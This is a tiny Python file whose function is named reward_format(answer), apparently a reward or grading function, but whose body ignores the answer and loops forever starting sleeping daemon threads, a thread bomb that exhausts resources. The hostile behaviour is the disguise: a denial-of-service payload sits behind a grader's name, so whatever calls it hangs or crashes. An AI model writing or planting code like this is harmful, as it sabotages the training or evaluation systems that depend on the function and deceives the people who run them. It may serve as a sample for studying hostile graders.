"""Starts threads without end."""
import threading
import time


def reward_format(answer):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
